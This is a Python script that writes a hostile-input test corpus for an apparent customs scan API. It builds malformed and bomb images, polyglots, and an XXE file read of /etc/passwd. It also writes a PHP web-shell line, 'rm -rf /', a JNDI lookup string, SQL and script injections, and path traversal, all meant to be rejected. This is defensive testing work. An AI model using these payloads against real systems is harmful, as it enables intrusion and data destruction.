"""Write the hostile-input corpus (deterministic): python tests/api/hostile/make_corpus.py

scans/NAME         sent as the `scan` part (content type from NAME's suffix, .bin = application/octet-stream)
                   with a valid declaration; every one must be answered 4xx.
declarations/NAME  sent as the `declaration` field with a valid scan; every one must be answered 4xx.
decisions/NAME     POSTed as JSON to /v1/scans/{id}/decision of a held case; every one must be 4xx.
"""

from __future__ import annotations

import json
import shutil
import struct
import zlib
from pathlib import Path

import cv2
import numpy as np

HERE = Path(__file__).parent
SAMPLES = HERE.parents[2] / "sample_scans"
GOOD = json.loads((SAMPLES / "scan_00.json").read_text(encoding="utf-8"))


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, idat: bytes = b"", depth: int = 8, colour: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + (chunk(b"IDAT", idat) if idat else b"")
        + chunk(b"IEND", b"")
    )


def jpeg_sof(width: int, height: int) -> bytes:
    sof = (
        b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    )
    return b"\xff\xd8" + sof + b"\xff\xd9"


def bmp(width: int, height: int) -> bytes:
    header = b"BM" + struct.pack("<IHHI", 54, 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return header + info


def tiff(width: int, height: int) -> bytes:
    entries = [
        (256, width),
        (257, height),
        (258, 8),
        (259, 1),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, height),
        (279, width * height),
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", t, 4, 1, v) for t, v in entries)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\0\0\0\0"


def scans() -> dict[str, bytes]:
    real_png = (SAMPLES / "scan_00.png").read_bytes()
    real_jpg = (SAMPLES / "scan_04.jpg").read_bytes()
    out: dict[str, bytes] = {
        "empty.png": b"",
        "one_byte.png": b"\x89",
        "png_signature_only.png": real_png[:8],
        "text.png": b"this is not an image\n" * 10,
        "html.bin": b"<html><script>alert(1)</script></html>",
        "json.bin": json.dumps(GOOD).encode(),
        "elf.bin": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
        "pe.bin": b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200,
        "pdf.bin": b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
        "zip.bin": b"PK\x03\x04" + b"\0" * 100,
        "gzip.bin": b"\x1f\x8b\x08\x00" + b"\0" * 100,
        "svg_script.bin": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "xxe.bin": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "utf16_text.bin": "not an image".encode("utf-16"),
        "nul_bytes.bin": b"\0" * 4096,
        "ff_bytes.bin": b"\xff" * 4096,
        "random.bin": np.random.default_rng(1).integers(0, 256, 8192, dtype=np.uint8).tobytes(),
        "bomb_png_60000.png": png(60000, 60000, zlib.compress(b"\0" * 100_000)),
        "bomb_png_65535x1.png": png(65535 * 2000, 1),
        "bomb_png_max.png": png(0x7FFFFFFF, 0x7FFFFFFF),
        "bomb_png_zero_width.png": png(0, 100),
        "bomb_png_zero_height.png": png(100, 0),
        "bomb_jpeg_65535.jpg": jpeg_sof(65535, 65535),
        "bomb_jpeg_zero.jpg": jpeg_sof(0, 0),
        "bomb_bmp_huge.bin": bmp(100_000, 100_000),
        "bomb_bmp_negative.bin": bmp(-100_000, -100_000),
        "bomb_tiff_60000.bin": tiff(60000, 60000),
        "tiff_no_data.bin": tiff(9000, 9000),
        "png_bad_crc.png": real_png[:29] + b"\0\0\0\0" + real_png[33:200],
        "png_ihdr_only.png": png(100, 100),
        "png_bad_depth.png": png(100, 100, zlib.compress(b"\0" * 1000), depth=7),
        "png_bad_colour.png": png(100, 100, zlib.compress(b"\0" * 1000), colour=5),
        "png_garbage_idat.png": png(64, 64, b"not zlib at all"),
        "jpeg_soi_only.jpg": b"\xff\xd8",
        "jpeg_soi_eoi.jpg": b"\xff\xd8\xff\xd9",
        "jpeg_bad_marker.jpg": b"\xff\xd8\xff\x00" + b"\0" * 100,
        "gif.bin": b"GIF89a" + struct.pack("<HH", 60000, 60000) + b"\0" * 20,
        "webp_header.bin": b"RIFF" + struct.pack("<I", 100) + b"WEBPVP8 " + b"\0" * 50,
        "polyglot_html_png.bin": b"<html>" + real_png[:64],
        "polyglot_zip_in_png.png": real_png[:33] + b"PK\x03\x04" + b"\0" * 64,
        "polyglot_pdf_jpeg.jpg": b"%PDF-1.4\n" + real_jpg[:200],
        "shell_script.bin": b"#!/bin/sh\nrm -rf /\n",
        "php.bin": b"<?php system($_GET['c']); ?>",
        "sql.bin": b"'; DROP TABLE cases; --",
        "path_traversal.bin": b"../../../../etc/passwd",
    }
    for fraction in (0.05, 0.1, 0.25, 0.5, 0.75, 0.9):
        out[f"truncated_png_{int(fraction * 100):02d}.png"] = real_png[: int(len(real_png) * fraction)]
    for fraction in (0.01, 0.02, 0.05):
        out[f"truncated_jpeg_{int(fraction * 100):02d}.jpg"] = real_jpg[: int(len(real_jpg) * fraction)]
    gray = np.full((8, 8), 128, np.uint8)
    tiny = cv2.imencode(".png", gray)[1].tobytes()
    out["tiny_png_truncated.png"] = tiny[:-20]
    flipped = bytearray(real_png[:4000])
    for i in range(100, 4000, 97):
        flipped[i] ^= 0xFF
    out["bitflipped_png.png"] = bytes(flipped)
    return out


def declarations() -> dict[str, str]:
    def with_item(**changes: object) -> str:
        d = json.loads(json.dumps(GOOD))
        d["items"][0].update(changes)
        d.pop("total_value", None)
        d.pop("total_net_weight_kg", None)
        return json.dumps(d, ensure_ascii=False)

    def with_top(**changes: object) -> str:
        d = json.loads(json.dumps(GOOD))
        d.update(changes)
        return json.dumps(d, ensure_ascii=False)

    injections = [
        "'; DROP TABLE cases; --",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://x/a}",
        "$(rm -rf /)",
        "../../etc/passwd",
        "1 OR 1=1",
    ]
    out = {
        "empty.json": "",
        "not_json.json": "description: knife",
        "truncated.json": json.dumps(GOOD)[:50],
        "array.json": "[]",
        "string.json": '"declaration"',
        "number.json": "42",
        "null.json": "null",
        "empty_object.json": "{}",
        "deep_nesting.json": "[" * 50_000 + "]" * 50_000,
        "deep_object.json": '{"a":' * 20_000 + "1" + "}" * 20_000,
        "nan.json": with_item(value=float("nan")),
        "infinity.json": with_item(value=float("inf")),
        "huge_number.json": with_item(value=1e400),
        "negative_value.json": with_item(value=-5),
        "negative_weight.json": with_item(net_weight_kg=-1),
        "zero_quantity.json": with_item(quantity=0),
        "huge_quantity.json": with_item(quantity=10**30),
        "float_quantity.json": with_item(quantity=1.5),
        "string_quantity.json": with_item(quantity="two"),
        "huge_description.json": with_item(description="A" * 100_000),
        "long_description.json": with_item(description="knife " * 60),
        "empty_description.json": with_item(description=""),
        "blank_description.json": with_item(description="   \t  "),
        "nul_description.json": with_item(description="knife\u0000gun"),
        "bell_description.json": with_item(description="knife\u0007"),
        "rtl_override.json": with_item(description="gift\u202eefink"),
        "zero_width.json": with_item(description="kn\u200bife"),
        "escape_sequence.json": with_item(description="\u001b[31mred"),
        "private_use.json": with_item(description="\ue000"),
        "description_object.json": with_item(description={"$ne": None}),
        "description_list.json": with_item(description=["a", "b"]),
        "too_many_items.json": with_top(
            items=[GOOD["items"][0]] * 201, total_value=None, total_net_weight_kg=None
        ),
        "items_not_list.json": with_top(items="knife"),
        "items_missing.json": json.dumps({k: v for k, v in GOOD.items() if k != "items"}),
        "totals_mismatch.json": with_top(total_value=1_000_000),
        "category_unknown.json": with_top(category="weapons"),
        "mixed_currency.json": with_item(currency="EUR"),
        "bad_country_code.json": with_top(sender_country="XXX"),
        "bad_currency.json": with_top(currency="BTC"),
        "bad_hs_letters.json": with_item(hs_code="ABCDEF"),
        "bad_hs_short.json": with_item(hs_code="12"),
        "unknown_item_field.json": with_item(is_admin=True),
        "unknown_top_field.json": with_top(is_admin=True),
        "misspelt_total.json": with_top(total_valeu=1.0),
        "proto_pollution.json": with_item(__proto__={"admin": True}),
        "lone_surrogate.json": with_item(description="knife").replace('"knife"', '"kn\\udc80ife"'),
    }
    for i, text in enumerate(injections):
        out[f"injection_currency_{i}.json"] = with_top(currency=text)
        out[f"injection_country_{i}.json"] = with_top(recipient_country=text)
        out[f"injection_hs_{i}.json"] = with_item(hs_code=text)
    return out


def decisions() -> dict[str, str]:
    return {
        "empty.json": "",
        "array.json": "[]",
        "unknown_outcome.json": json.dumps({"outcome": "vaporised"}),
        "outcome_injection.json": json.dumps({"outcome": "seized'; DROP TABLE cases; --"}),
        "note_nul.json": json.dumps({"outcome": "seized", "note": "a\u0000b"}),
        "note_huge.json": json.dumps({"outcome": "seized", "note": "x" * 10_000}),
        "box_nan.json": '{"outcome": "seized", "boxes": {"added": [{"class_name": "gun", '
        '"xyxy": [NaN, 1, 2, 3]}]}}',
        "box_three_coords.json": json.dumps(
            {"outcome": "seized", "boxes": {"added": [{"class_name": "gun", "xyxy": [1, 2, 3]}]}}
        ),
        "box_unknown_class.json": json.dumps(
            {"outcome": "seized", "boxes": {"added": [{"class_name": "rocket", "xyxy": [1, 2, 3, 4]}]}}
        ),
        "box_negative_index.json": json.dumps({"outcome": "seized", "boxes": {"removed": [-1]}}),
        "box_index_out_of_range.json": json.dumps({"outcome": "seized", "boxes": {"removed": [999]}}),
        "too_many_boxes.json": json.dumps(
            {"outcome": "seized", "boxes": {"added": [{"class_name": "gun", "xyxy": [1, 2, 3, 4]}] * 201}}
        ),
    }


def main() -> None:
    for name, items, mode in (
        ("scans", scans(), "b"),
        ("declarations", declarations(), "t"),
        ("decisions", decisions(), "t"),
    ):
        folder = HERE / name
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        for file, content in items.items():
            if mode == "b":
                (folder / file).write_bytes(content)  # type: ignore[arg-type]
            else:
                (folder / file).write_text(content, encoding="utf-8")  # type: ignore[arg-type]


if __name__ == "__main__":
    main()
